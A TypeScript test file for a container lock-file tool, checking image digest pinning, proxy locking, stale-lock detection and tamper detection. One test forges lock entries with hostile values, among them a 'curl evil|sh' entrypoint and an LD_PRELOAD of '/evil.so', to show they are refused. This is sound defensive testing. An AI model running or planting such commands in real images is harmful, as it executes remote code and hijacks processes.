import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import type { TestContext } from "node:test";
import { formatImageReference } from "@polaris-cvm/images/image-reference.ts";
import type { ImageReference } from "@polaris-cvm/images/image-reference.ts";
import { digestOf, OCI_INDEX, parseImageConfig } from "@polaris-cvm/images/manifest.ts";
import type { ResolvedImage } from "@polaris-cvm/images/resolve-image.ts";
import { createSmallBase } from "../../images/testing/small-base.ts";
import type { LockChange } from "./lock-file/compare.ts";
import { loadLockFile, saveLockFile } from "./lock-file/file.ts";
import { buildLockedProxy } from "./lock-file/locked-proxy.ts";
import type { ImagePin, LockedImage, LockedProxy } from "./lock-file/schema.ts";
import type { ImageSource } from "./lock-file/stack-images.ts";
import { checkLock, confirmImages, lockStack } from "./lock-stack.ts";
import type { LockedStack } from "./lock-stack.ts";
import { planStack } from "./plan.ts";
import { openProject } from "./project.ts";
import type { Project } from "./project.ts";
import { saveLock } from "./write-lock.ts";

const BASE = "docker.io/library/node:26-slim";
const IMAGE = "workload: { image: acme/app:1 }";
const CANONICAL = "docker.io/acme/app:1";
const PROGRAM = "targets: { local: { run: [node, a.js] } }";

/** What a registry has under some tags; `asked` tells what it was asked for. */
class Tags implements ImageSource {
  readonly asked: string[] = [];
  readonly signal = new AbortController().signal;
  readonly #images = new Map<string, ResolvedImage>();

  /** With an image under the name of the workload and one under that of the base. */
  static async create(): Promise<Tags> {
    const tags = new Tags();
    await tags.point(CANONICAL, "one");
    await tags.point(BASE, "base");
    return tags;
  }

  /** Points a tag to an image, and gives back its digest. */
  async point(tagged: string, variant: string): Promise<string> {
    const image = createSmallBase({ env: [`VARIANT=${variant}`] });
    const pieces: Uint8Array[] = [];
    for await (const piece of image.openBlob(image.config, AbortSignal.timeout(1000))) pieces.push(piece);
    const { digest, mediaType } = image.manifest;
    const resolved = {
      reference: tagged,
      digest,
      mediaType,
      platformDigest: digest,
      platformMediaType: mediaType,
      config: parseImageConfig(Buffer.concat(pieces)),
      image,
    };
    this.#images.set(tagged, resolved);
    this.#images.set(digest, resolved);
    return digest;
  }

  /** Points a tag to an index that has one image, and gives back the digest of that. */
  async index(tagged: string, variant: string): Promise<string> {
    const platformDigest = await this.point(tagged, variant);
    const image = this.#images.get(tagged) ?? assert.fail();
    const digest = digestOf(Buffer.from(`the index of ${platformDigest}`));
    const resolved = { ...image, digest, mediaType: OCI_INDEX };
    this.#images.set(tagged, resolved);
    this.#images.set(digest, resolved);
    return platformDigest;
  }

  readonly resolve = async (reference: ImageReference): Promise<ResolvedImage> => {
    const name = formatImageReference(reference);
    this.asked.push(name);
    const found = this.#images.get(reference.digest ?? name);
    assert.ok(found, `nobody has pushed ${name}`);
    return { ...found, reference: name };
  };

  /** As if all of it were kept. */
  readonly findPinned = async ({ digest }: ImagePin): Promise<ResolvedImage | undefined> =>
    this.#images.get(digest);

  readonly readPinned = async (pin: ImagePin): Promise<ResolvedImage> => {
    const found = await this.findPinned(pin);
    assert.ok(found, `nobody has pushed ${pin.digest}`);
    return found;
  };
}

async function createProject(context: TestContext, lines: string): Promise<Project> {
  const folder = await mkdtemp(join(tmpdir(), "polaris-project-"));
  context.after(() => rm(folder, { recursive: true }));
  await writeFile(join(folder, "a.js"), "");
  return await rewriteProject(folder, lines);
}

async function rewriteProject(folder: string, lines: string, stack?: string): Promise<Project> {
  await writeFile(join(folder, "polaris.yaml"), `version: 1\nname: shop\n${lines}\n`);
  return await openProject(folder, stack === undefined ? {} : { stack });
}

async function lockAndSave(project: Project, images: ImageSource, update = false): Promise<LockedStack> {
  const locked = await lockStack(project, { frozen: false, images, update });
  await saveLock(project, locked);
  return locked;
}

/** As if another installation had locked the proxy, or a hand had. */
async function editProxy({ lockPath }: Project, edit: Partial<LockedProxy>): Promise<void> {
  const lock = (await loadLockFile(lockPath)) ?? assert.fail("no lock");
  const stack = lock.stacks["default"];
  assert.ok(stack?.proxy !== undefined);
  const changed = { ...stack, proxy: { ...stack.proxy, ...edit } };
  await saveLockFile(lockPath, { ...lock, stacks: { default: changed } });
}

/** As if a hand had changed what the lock says of the workload, or of the base. */
async function forge(
  { lockPath }: Project,
  { workload, base }: { readonly workload?: Partial<LockedImage>; readonly base?: Partial<ImagePin> },
): Promise<void> {
  const lock = (await loadLockFile(lockPath)) ?? assert.fail("no lock");
  const { default: stack } = lock.stacks;
  const pin = lock.pins?.["base"];
  assert.ok(stack?.workload.kind === "image" && pin !== undefined);
  const changed = { ...stack, workload: { ...stack.workload, ...workload } };
  await saveLockFile(lockPath, {
    ...lock,
    stacks: { default: changed },
    pins: { base: { ...pin, ...base } },
  });
}

const briefly = (changes: readonly LockChange[]) =>
  changes.map(({ field, from, to, reason }) => [field, from, to, reason]);

test("asks for workload and base once, and never again while the lock has them", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  const locked = await lockAndSave(project, tags);
  assert.deepEqual(tags.asked, [CANONICAL, BASE]);
  const { workload, proxy } = locked.stackLock;
  assert.equal(workload.kind === "image" && workload.digest, await tags.point(CANONICAL, "one"));
  assert.equal(proxy?.base, locked.pins["base"]?.platformDigest);
  await tags.point(CANONICAL, "two");
  await tags.point(BASE, "moved");
  for (const images of [undefined, tags]) {
    const again = await lockStack(project, { frozen: true, ...(images !== undefined && { images }) });
    assert.deepEqual([again.changes, again.pins, again.stackLock], [[], locked.pins, locked.stackLock]);
  }
  assert.deepEqual(await checkLock(project), []);
  assert.equal(tags.asked.length, 2);
});

test("the proxy is locked as the image that is built of base and installation", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  const { stackLock, proxyParts } = await lockAndSave(project, tags);
  const { proxy } = stackLock;
  assert.ok(proxy !== undefined && proxyParts !== undefined);
  const image = await buildLockedProxy(proxyParts, proxy, tags);
  assert.equal(image.manifest.digest, proxy.digest);
  assert.deepEqual(image.layers.at(-1)?.digest, proxy.layer);
  const { config, ...digests } = proxy;
  assert.deepEqual(digests, {
    version: "0.1.0",
    base: proxyParts.base.platformDigest,
    layer: proxyParts.layer.digest,
    digest: image.manifest.digest,
    mediaType: "application/vnd.oci.image.manifest.v1+json",
    platformDigest: image.manifest.digest,
    platformMediaType: "application/vnd.oci.image.manifest.v1+json",
  });
  assert.deepEqual(
    [config.user, config.workingDir, config.exposedPorts, config.cmd, config.env],
    ["65532:65532", "/polaris", ["3000/tcp"], [], ["VARIANT=base"]],
  );
  assert.equal(config.entrypoint[0], "node");
});

test("an update says what has changed and why", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  const first = await lockAndSave(project, tags);
  const from = first.stackLock.workload.kind === "image" ? first.stackLock.workload.digest : "";
  const to = await tags.point(CANONICAL, "two");
  const { changes } = await lockStack(project, { frozen: false, update: true, images: tags });
  const reason = `${CANONICAL} names another image now`;
  assert.deepEqual(changes, [
    { field: "workload.config.env", from: '["VARIANT=one"]', to: '["VARIANT=two"]', reason },
    { field: "workload.digest", from, to, reason },
    { field: "workload.platformDigest", from, to, reason },
  ]);
});

test("a base that has moved moves the proxy with it, at an update and not before", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  const first = await lockAndSave(project, tags);
  const from = first.pins["base"]?.digest;
  const to = await tags.point(BASE, "moved");
  assert.deepEqual((await lockAndSave(project, tags)).changes, []);
  const updated = await lockAndSave(project, tags, true);
  const [before, after] = [first.stackLock.proxy, updated.stackLock.proxy];
  const another = "the base is another one";
  const moved = `${BASE} names another image now`;
  assert.deepEqual(briefly(updated.changes), [
    ["proxy.base", from, to, another],
    ["proxy.config.env", '["VARIANT=base"]', '["VARIANT=moved"]', another],
    ["proxy.digest", before?.digest, after?.digest, another],
    ["proxy.platformDigest", before?.digest, after?.digest, another],
    ["pins.base.digest", from, to, moved],
    ["pins.base.platformDigest", from, to, moved],
  ]);
  assert.equal((await loadLockFile(project.lockPath))?.pins?.["base"]?.digest, to);
});

test("another proxy.base is pinned anew; a mirror of the same image changes no proxy", async (context) => {
  const { projectDir } = await createProject(context, IMAGE);
  const project = await openProject(projectDir, {});
  const tags = await Tags.create();
  const first = await lockAndSave(project, tags);
  const mirror = "registry.example/mirror/node:26-slim";
  await tags.point(mirror, "base");
  const changed = await rewriteProject(projectDir, `${IMAGE}\nproxy: { base: "${mirror}" }`);
  const reason = "proxy.base names another image than the pin does";
  assert.deepEqual(briefly(await checkLock(changed)), [["pins.base.reference", BASE, mirror, reason]]);
  await assert.rejects(lockStack(changed, { frozen: false }), {
    code: "IMAGE_NOT_LOCKED",
    message: `the image of the proxy is not in ${project.lockPath}: ${reason}`,
  });
  const again = await lockAndSave(changed, tags);
  assert.deepEqual(briefly(again.changes), [
    ["pins.base.reference", BASE, mirror, `${mirror} has taken the place of ${BASE}`],
  ]);
  assert.deepEqual(tags.asked, [CANONICAL, BASE, mirror]);
  assert.deepEqual(again.stackLock.proxy, first.stackLock.proxy);
  assert.deepEqual(await checkLock(changed), []);
});

test("a base by tag and digest is the one of the digest", async (context) => {
  const tags = await Tags.create();
  const digest = await tags.point(BASE, "base");
  await tags.point(BASE, "moved");
  const project = await createProject(context, `${IMAGE}\nproxy: { base: "node:26-slim@${digest}" }`);
  const { pins, stackLock } = await lockAndSave(project, tags);
  assert.deepEqual([pins["base"]?.reference, pins["base"]?.digest], [`${BASE}@${digest}`, digest]);
  assert.equal(stackLock.proxy?.base, digest);
  assert.deepEqual(await checkLock(project), []);
});

test("what another installation has locked is told with its reason, and locked anew without a question", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  const { stackLock } = await lockAndSave(project, tags);
  const { proxy } = stackLock;
  assert.ok(proxy !== undefined);
  const other = `sha256:${"a".repeat(64)}`;
  const version = "this is polaris 0.1.0, the proxy's image in the lock is of 0.0.9";
  const layer = "this installation has another proxy of the same version";
  const cases: readonly (readonly [Partial<LockedProxy>, readonly unknown[]])[] = [
    [{ version: "0.0.9" }, [["proxy.version", "0.0.9", "0.1.0", version]]],
    [{ layer: other }, [["proxy.layer", other, proxy.layer, layer]]],
    [{ base: other }, [["proxy.base", other, proxy.base, "the base is another one"]]],
    [
      { version: "0.0.9", layer: other },
      [
        ["proxy.layer", other, proxy.layer, version],
        ["proxy.version", "0.0.9", "0.1.0", version],
      ],
    ],
  ];
  for (const [edit, expected] of cases) {
    await editProxy(project, edit);
    assert.deepEqual(briefly(await checkLock(project)), expected);
    for (const frozen of [true, false]) {
      await assert.rejects(lockStack(project, { frozen }), { code: "IMAGE_NOT_LOCKED" });
    }
    assert.deepEqual((await lockAndSave(project, tags)).stackLock, stackLock);
  }
  assert.deepEqual(tags.asked, [CANONICAL, BASE]);
});

test("an image that is not the locked one is not used", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  const { stackLock } = await lockAndSave(project, tags);
  const other = `sha256:${"a".repeat(64)}`;
  const user = { ...(stackLock.proxy?.config ?? assert.fail()), user: "" };
  for (const edit of [{ digest: other, platformDigest: other }, { config: user }]) {
    await editProxy(project, edit);
    const { proxyParts, stackLock: edited } = await lockStack(project, { frozen: true });
    assert.ok(proxyParts !== undefined && edited.proxy !== undefined);
    await assert.rejects(buildLockedProxy(proxyParts, edited.proxy, tags), { code: "IMAGE_DIGEST_MISMATCH" });
  }
});

test("what a hand has changed of the workload is refused by its bytes, and told and put right by the next lock", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  const { stackLock } = await lockAndSave(project, tags);
  assert.ok(stackLock.workload.kind === "image");
  const { config } = stackLock.workload;
  const cases: readonly (readonly [string, LockedImage["config"]])[] = [
    ["entrypoint", { ...config, entrypoint: ["/bin/sh", "-c", "curl evil|sh"] }],
    ["cmd", { ...config, cmd: ["evil"] }],
    ["env", { ...config, env: ["LD_PRELOAD=/evil.so"] }],
    ["user", { ...config, user: "" }],
    ["workingDir", { ...config, workingDir: "/evil" }],
    ["exposedPorts", { ...config, exposedPorts: ["22/tcp"] }],
  ];
  const reason = "the lock was changed by hand";
  for (const [name, edited] of cases) {
    await forge(project, { workload: { config: edited } });
    const locked = await lockStack(project, { frozen: true });
    await assert.rejects(confirmImages(locked, tags), {
      code: "IMAGE_DIGEST_MISMATCH",
      message: `${CANONICAL}: ${stackLock.workload.digest} is not as polaris.lock says: workload.config.${name}`,
      hint: /^somebody has changed polaris\.lock/,
    });
    // A check that has nothing kept cannot know it.
    assert.deepEqual(await checkLock(project), []);
    const checked = await checkLock(project, tags);
    assert.deepEqual(
      checked.map((change) => [change.field, change.reason]),
      [[`workload.config.${name}`, reason]],
    );
    const again = await lockAndSave(project, tags);
    assert.deepEqual([again.changes, again.stackLock], [checked, stackLock]);
    await confirmImages(again, tags);
  }
  assert.deepEqual(tags.asked, [CANONICAL, BASE]);
});

test("the image for linux/amd64 is the one that the index has, of the workload and of the base", async (context) => {
  const tags = await Tags.create();
  const platforms = { workload: await tags.index(CANONICAL, "one"), base: await tags.index(BASE, "base") };
  const other = await tags.point("docker.io/acme/evil:1", "evil");
  const project = await createProject(context, IMAGE);
  const { stackLock, pins } = await lockAndSave(project, tags);
  assert.ok(stackLock.workload.kind === "image" && pins["base"] !== undefined);
  assert.equal(stackLock.workload.platformDigest, platforms.workload);
  for (const [field, edit] of [
    ["workload.platformDigest", { workload: { platformDigest: other } }],
    ["pins.base.platformDigest", { base: { platformDigest: other } }],
  ] as const) {
    await forge(project, edit);
    // Whoever forges the base forges what the proxy stands on, too.
    if ("base" in edit) await editProxy(project, { base: other });
    const locked = await lockStack(project, { frozen: true });
    await assert.rejects(confirmImages(locked, tags), {
      code: "IMAGE_DIGEST_MISMATCH",
      message: new RegExp(`: ${field}$`),
    });
    assert.ok(locked.proxyParts !== undefined && locked.stackLock.proxy !== undefined);
    if ("base" in edit) {
      await assert.rejects(buildLockedProxy(locked.proxyParts, locked.stackLock.proxy, tags), {
        code: "IMAGE_DIGEST_MISMATCH",
      });
    }
    const checked = await checkLock(project, tags);
    assert.deepEqual(
      checked.find((change) => change.field === field)?.reason,
      "the lock was changed by hand",
    );
    const again = await lockAndSave(project, tags);
    assert.deepEqual([again.changes, again.stackLock, again.pins], [checked, stackLock, pins]);
  }
});

test("a check builds the proxy where its base is kept", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  const { stackLock } = await lockAndSave(project, tags);
  const other = `sha256:${"a".repeat(64)}`;
  const user = { ...(stackLock.proxy?.config ?? assert.fail()), user: "" };
  for (const [edit, fields] of [
    [{ digest: other, platformDigest: other }, ["proxy.digest", "proxy.platformDigest"]],
    [{ config: user }, ["proxy.config.user"]],
  ] as const) {
    await editProxy(project, edit);
    assert.deepEqual(await checkLock(project), []);
    const nothingKept = { signal: tags.signal, findPinned: () => Promise.resolve(undefined) };
    assert.deepEqual(await checkLock(project, nothingKept), []);
    const changes = await checkLock(project, tags);
    assert.deepEqual(
      changes.map(({ field, reason }) => [field, reason]),
      fields.map((field) => [field, "the lock was changed by hand"]),
    );
    assert.deepEqual((await lockAndSave(project, tags)).stackLock, stackLock);
  }
});

/** Two stacks of one project: they stand on one base. */
async function createTwoStacks(
  context: TestContext,
): Promise<{ readonly dev: Project; readonly prod: Project }> {
  const { projectDir } = await createProject(context, IMAGE);
  const lines = `${IMAGE}\nstacks: { dev: {}, prod: {} }`;
  const dev = await rewriteProject(projectDir, lines, "dev");
  const prod = await rewriteProject(projectDir, lines, "prod");
  return { dev, prod };
}

test("two stacks stand on one base: what one has moved, the other is told of", async (context) => {
  const { dev, prod } = await createTwoStacks(context);
  const tags = await Tags.create();
  await lockAndSave(dev, tags);
  assert.deepEqual(
    (await lockAndSave(prod, tags)).changes.filter(({ field }) => field.startsWith("pins.")),
    [],
  );
  const from = await tags.point(BASE, "base");
  const to = await tags.point(BASE, "moved");
  await lockAndSave(dev, tags, true);
  assert.deepEqual(briefly(await checkLock(prod)), [["proxy.base", from, to, "the base is another one"]]);
  assert.equal((await lockAndSave(prod, tags)).stackLock.proxy?.base, to);
  assert.deepEqual(await checkLock(dev), []);
});

test("a program and an image in turn are told as what they are", async (context) => {
  const project = await createProject(context, PROGRAM);
  await saveLock(project, await lockStack(project, { frozen: false }));
  const changed = await rewriteProject(project.projectDir, IMAGE);
  await assert.rejects(lockStack(changed, { frozen: false }), { code: "IMAGE_NOT_LOCKED" });
  const tags = await Tags.create();
  const { changes } = await lockAndSave(changed, tags);
  const reason = "the workload is an image now";
  assert.deepEqual(briefly(changes.filter(({ field }) => /\.(kind|run|version)$/.test(field))), [
    ["proxy.version", undefined, "0.1.0", "the proxy's image is not locked yet"],
    ["workload.kind", "process", "image", reason],
    ["workload.run", '["node","a.js"]', undefined, reason],
  ]);
  const back = await lockStack(await rewriteProject(project.projectDir, PROGRAM), { frozen: false });
  assert.equal(back.stackLock.proxy, undefined);
  assert.deepEqual(briefly(back.changes.filter(({ field }) => field === "proxy.version")), [
    ["proxy.version", "0.1.0", undefined, "the workload is a program now, and so is the proxy"],
  ]);
});

test("without a network, images that are not locked are refused, and a check names them", async (context) => {
  const project = await createProject(context, IMAGE);
  const changes = [
    ["workload.reference", undefined, CANONICAL, "its digest is what polaris lock asks the registry for"],
    ["pins.base.reference", undefined, BASE, "the base that it stands on is not pinned yet"],
    ["proxy.version", undefined, "0.1.0", "the proxy's image is not locked yet"],
  ];
  for (const frozen of [false, true]) {
    await assert.rejects(lockStack(project, { frozen }), {
      code: "IMAGE_NOT_LOCKED",
      message: `${CANONICAL} is not in ${project.lockPath}; the image of the proxy is not in ${project.lockPath}: the base that it stands on is not pinned yet`,
    });
  }
  assert.deepEqual(briefly(await checkLock(project)), changes);
});

test("with a program beside the image it is the program that is locked, unless an engine is named", async (context) => {
  const both = (engine: string) =>
    createProject(context, `${IMAGE}\ntargets: { local: { engine: ${engine}, run: [node, a.js] } }`);
  for (const [engine, kind] of [
    ["docker", "image"],
    ["podman", "image"],
    ["auto", "process"],
    ["process", "process"],
  ] as const) {
    const tags = await Tags.create();
    const { stackLock } = await lockStack(await both(engine), { frozen: false, images: tags, update: true });
    assert.deepEqual([stackLock.workload.kind, stackLock.proxy !== undefined], [kind, kind === "image"]);
    assert.equal(tags.asked.length, kind === "image" ? 2 : 0, engine);
  }
});

test("what another command has locked meanwhile is not overwritten, unless it is the same", async (context) => {
  const project = await createProject(context, IMAGE);
  const tags = await Tags.create();
  await lockAndSave(project, tags);
  const deploying = await lockStack(project, { frozen: false });
  await tags.point(CANONICAL, "two");
  const update = { frozen: false, update: true, images: tags };
  const [updated, same] = [await lockStack(project, update), await lockStack(project, update)];
  await saveLock(project, updated);
  const written = await readFile(project.lockPath, "utf8");
  await assert.rejects(saveLock(project, deploying), { code: "LOCK_FILE_STALE" });
  await saveLock(project, same);
  assert.equal(await readFile(project.lockPath, "utf8"), written);
});

test("a pin that another command has written meanwhile is not overwritten", async (context) => {
  const { dev, prod } = await createTwoStacks(context);
  const tags = await Tags.create();
  const late = await lockStack(dev, { frozen: false, images: tags });
  await tags.point(BASE, "moved");
  await lockAndSave(prod, tags);
  await assert.rejects(saveLock(dev, late), { code: "LOCK_FILE_STALE" });
  await lockAndSave(dev, tags);
  assert.deepEqual([await checkLock(dev), await checkLock(prod)], [[], []]);
});

test("a pin that has moved meanwhile is noticed also by a deploy that changes no pin", async (context) => {
  const { dev, prod } = await createTwoStacks(context);
  const tags = await Tags.create();
  await lockAndSave(dev, tags);
  await lockAndSave(prod, tags);
  const deploying = await lockStack(dev, { frozen: false });
  await tags.point(BASE, "moved");
  await lockAndSave(prod, tags, true);
  await assert.rejects(saveLock(dev, deploying), { code: "LOCK_FILE_STALE" });
});

test("a plan starts what the image says, or what the configuration puts in its place", async (context) => {
  const { stackLock } = await lockStack(await createProject(context, IMAGE), {
    frozen: false,
    images: await Tags.create(),
  });
  const commandOf = async (workload: string, image: object): Promise<readonly string[]> => {
    const { config } = await createProject(context, `workload: { image: acme/app:1${workload} }`);
    assert.ok(stackLock.workload.kind === "image");
    const locked = { ...stackLock.workload, config: { ...stackLock.workload.config, ...image } };
    const plan = planStack(config, "default", { ...stackLock, workload: locked });
    assert.ok(plan.workload.kind === "image");
    assert.equal(plan.workload.platformDigest, locked.platformDigest);
    return plan.workload.command;
  };
  const image = { entrypoint: ["/entry"], cmd: ["run"] };
  assert.deepEqual(await commandOf("", image), ["/entry", "run"]);
  assert.deepEqual(await commandOf(", args: [a, b]", image), ["/entry", "a", "b"]);
  assert.deepEqual(await commandOf(", entrypoint: [/other]", image), ["/other"]);
  assert.deepEqual(await commandOf(", entrypoint: [/other], args: [a]", image), ["/other", "a"]);
  await assert.rejects(commandOf("", { entrypoint: [], cmd: [] }), {
    code: "CONFIG_INVALID",
    message: `${CANONICAL} does not say which program to start`,
  });
});
